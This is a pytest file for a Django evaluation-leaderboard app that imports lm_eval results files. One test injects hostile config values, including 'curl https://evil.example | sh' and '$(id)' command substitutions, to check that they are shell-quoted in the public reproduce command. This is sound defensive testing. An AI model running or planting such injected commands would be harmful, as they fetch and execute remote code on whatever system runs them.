"""import_results brings in what the lm_eval CLI writes; the run's download gives the same back."""

import io
import json
import shlex
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import yaml
from django.conf import settings
from django.core.management import CommandError, call_command
from django.utils.html import escape

from evaluation.models import RunStatus, SampleLog, TaskResult
from rankings.models import LeaderboardEntry
from submissions.models import ModelSubmission, Status

LM_EVAL = str(Path(sys.executable).with_name("lm_eval"))


@pytest.fixture(scope="module")
def cli_output(tiny_model, tmp_path_factory) -> Path:
    """The folder the lm_eval CLI wrote for the tiny model on the demo suite's tasks."""
    model_id, sha = tiny_model
    suite = yaml.safe_load((Path(settings.BASE_DIR) / "catalogue/suites/demo-medical.yaml").read_text())
    tasks = ",".join(t["task"] for t in suite["tasks"])
    tmp_path = tmp_path_factory.mktemp("lm_eval")
    subprocess.run(
        [
            LM_EVAL,
            "--model",
            "hf",
            "--model_args",
            f"pretrained={model_id},revision={sha},dtype=float32",
            "--tasks",
            tasks,
            "--num_fewshot",
            "0",
            "--batch_size",
            "auto",
            "--device",
            "cpu",
            "--include_path",
            ".",
            "--log_samples",
            "--output_path",
            str(tmp_path / "cli"),
        ],
        cwd=Path(settings.BASE_DIR) / "evaluation/task_packs/demo_medical",
        check=True,
        capture_output=True,
    )
    [folder] = (tmp_path / "cli").iterdir()
    return folder


def test_import_results_round_trips_a_cli_results_file(cli_output, tiny_model, suites, client):
    model_id, sha = tiny_model
    [results_path] = cli_output.glob("results_*.json")
    sample_paths = sorted(cli_output.glob("samples_*.jsonl"))
    out = io.StringIO()
    call_command("import_results", str(results_path), *map(str, sample_paths), stdout=out)

    submission = ModelSubmission.objects.get()
    run = submission.runs.get()
    assert (submission.model_id, submission.commit_sha, submission.precision, submission.suite.slug) == (
        model_id,
        sha,
        "float32",
        "demo-medical",  # the suite these results complete
    )
    assert run.status == RunStatus.FINISHED and submission.status == Status.FINISHED
    assert f"run {run.pk}: {model_id}@{sha[:7]} (float32) is ranked on demo-medical" in out.getvalue()
    assert LeaderboardEntry.objects.filter(submission=submission, run=run).exists()
    cli = json.loads(results_path.read_text())
    for task, values in cli["results"].items():
        assert (
            TaskResult.objects.get(run=run, task=task, metric="acc", metric_filter="none").value == values["acc,none"]
        )
    assert run.record["commit_sha"] == sha and run.record["imported_from"] == results_path.name
    assert run.record["commands"][0].startswith("cd evaluation/task_packs/demo_medical && lm_eval --model hf")

    # The download is what was imported: the same results file and the same sample lines.
    response = client.get(f"/runs/{run.pk}/download.zip")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    folder = cli_output.name
    assert json.loads(archive.read(f"{folder}/{results_path.name}")) == cli
    assert sorted(archive.namelist()) == sorted(
        [f"{folder}/{results_path.name}"] + [f"{folder}/{p.name}" for p in sample_paths]
    )
    for path in sample_paths:
        original = [json.loads(line) for line in path.read_text().splitlines()]
        downloaded = [json.loads(line) for line in archive.read(f"{folder}/{path.name}").splitlines()]
        assert sorted(downloaded, key=lambda s: s["doc_id"]) == sorted(original, key=lambda s: s["doc_id"])


def test_import_finds_the_samples_beside_the_results_and_refuses_bad_input_whole(cli_output, suites, tmp_path):
    [results_path] = cli_output.glob("results_*.json")
    not_results = tmp_path / "results_2024-01-01T00-00-00.json"
    not_results.write_text(json.dumps({"score": 1}))
    with pytest.raises(CommandError, match="not an lm-eval results file"):
        call_command("import_results", str(not_results))

    # A sample file cut short in the middle of a line: nothing at all is stored.
    broken = tmp_path / "broken"
    shutil.copytree(cli_output, broken)
    [pubmedqa] = broken.glob("samples_demo_pubmedqa_*.jsonl")
    pubmedqa.write_text(pubmedqa.read_text()[:-200])
    with pytest.raises(CommandError, match="line .*: not an lm-eval sample"):
        call_command("import_results", str(next(broken.glob("results_*.json"))))
    assert not ModelSubmission.objects.exists() and not SampleLog.objects.exists()

    # A suite the results do not complete.
    with pytest.raises(CommandError, match="nothing imported: the harness reported no acc"):
        call_command("import_results", str(results_path), "--suite", "medical")
    assert not ModelSubmission.objects.exists()

    call_command("import_results", str(results_path), stdout=io.StringIO())  # samples found beside it
    run = ModelSubmission.objects.get().runs.get()
    assert SampleLog.objects.filter(run=run).count() == sum(
        n["effective"] for n in json.loads(results_path.read_text())["n-samples"].values()
    )


def _hostile_copy(cli_output: Path, tmp_path: Path, change) -> Path:
    """The CLI's folder, its results file changed by ``change(results)``."""
    folder = tmp_path / "hostile"
    shutil.copytree(cli_output, folder)
    [results_path] = folder.glob("results_*.json")
    results = json.loads(results_path.read_text())
    change(results)
    results_path.write_text(json.dumps(results))
    return results_path


def test_values_of_an_imported_file_reach_the_reproduce_command_quoted(cli_output, suites, tmp_path, client):
    """Issue 22, finding 5: config.model, device and batch_size went unquoted into the public command."""
    hostile = {
        "model": "hf --tasks x; curl https://evil.example | sh; #",
        "device": "cpu$(id)",
        "batch_sizes": ["1 `id`"],
    }
    results_path = _hostile_copy(cli_output, tmp_path, lambda results: results["config"].update(hostile))
    call_command("import_results", str(results_path), stdout=io.StringIO())
    run = ModelSubmission.objects.get().runs.get()
    [command] = run.record["commands"]
    words = shlex.split(command.split(" && ", 1)[1])  # what the shell would run after the cd
    for option, value in (("--model", hostile["model"]), ("--device", "cpu$(id)"), ("--batch_size", "1 `id`")):
        assert words[words.index(option) + 1] == value  # one word each, as written: nothing runs
    assert words.count("--tasks") == 1
    page = client.get(f"/models/{run.submission.model_id}/").content.decode()
    assert escape(command) in page


@pytest.mark.parametrize("stderr", [-0.01, float("nan"), 1e200])
def test_import_results_refuses_a_stderr_no_score_can_have(cli_output, suites, tmp_path, stderr):
    """Issue 22, finding 7: a negative, NaN or huge stderr is refused, naming it; nothing is stored."""

    def change(results):
        task = next(iter(results["results"]))
        results["results"][task]["acc_stderr,none"] = stderr

    with pytest.raises(CommandError, match="stderr of .* a standard error is a number from 0 to 1"):
        call_command("import_results", str(_hostile_copy(cli_output, tmp_path, change)))
    assert not ModelSubmission.objects.exists()
